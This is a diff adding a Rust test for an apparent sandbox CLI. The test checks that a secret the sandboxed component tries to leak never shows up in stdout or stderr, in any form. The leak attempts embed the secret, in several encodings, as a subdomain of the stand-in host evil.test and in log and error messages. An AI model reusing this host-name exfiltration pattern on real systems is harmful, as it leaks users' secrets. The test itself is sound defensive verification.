@@ -530,3 +530,56 @@ fn a_cache_directory_others_can_write_is_refused() {
     );
     assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
 }
+
+/// What `airlock run` prints — refusals, errors, output, in both forms —
+/// carries no form of a secret's value, though the action put it into a
+/// host name, a log line, a request and its error in several encodings.
+#[test]
+fn no_secret_value_reaches_stdout_or_stderr() {
+    const VALUE: &str = "CliSecret99Value";
+    let dir = tempfile::tempdir().unwrap();
+    probe_component(
+        dir.path(),
+        "network = [\"http://*.evil.test\"]\nsecrets = [{ name = \"LABEL\", expose = true, send_to = [\"https://audience.test\"] }]",
+        "",
+    );
+    let mut policy = pin("probe", "probe.wasm");
+    policy.push_str("[secrets.LABEL]\nenv = \"CLI_LABEL_VALUE\"\n");
+    let dir = {
+        std::fs::write(dir.path().join("airlock.toml"), &policy).unwrap();
+        approve(dir.path(), "probe");
+        dir
+    };
+    let ops =
+        serde_json::json!({"op": "many", "ops": [{"op": "with-secret", "name": "LABEL", "ops": [
+            {"op": "http", "url": "http://{{value}}.evil.test/"},
+            {"op": "http", "url": "http://{{upper}}.evil.test/"},
+            {"op": "log", "message": "{{lower}} {{pct}} {{hex}}"},
+            {"op": "fail", "message": "{{value}} {{upper}} {{pct}} {{hex}}"},
+        ]}]})
+        .to_string();
+    let pct: String = VALUE.bytes().map(|b| format!("%{b:02x}")).collect();
+    for json in [false, true] {
+        let mut args = vec!["run", "probe", "--input", ops.as_str()];
+        if json {
+            args.push("--json");
+        }
+        let out = Command::new(AIRLOCK)
+            .args(&args)
+            .current_dir(dir.path())
+            .env("CLI_LABEL_VALUE", VALUE)
+            .env_remove("RUST_LOG")
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+        let printed = format!("{}{}", text(&out.stdout), text(&out.stderr));
+        assert!(printed.contains("[redacted:LABEL]"), "{printed}");
+        let folded = printed.to_ascii_lowercase();
+        for form in [VALUE.to_ascii_lowercase(), hex::encode(VALUE), pct.clone()] {
+            assert!(
+                !folded.contains(&form),
+                "--json {json}: {form} in {printed}"
+            );
+        }
+    }
+}
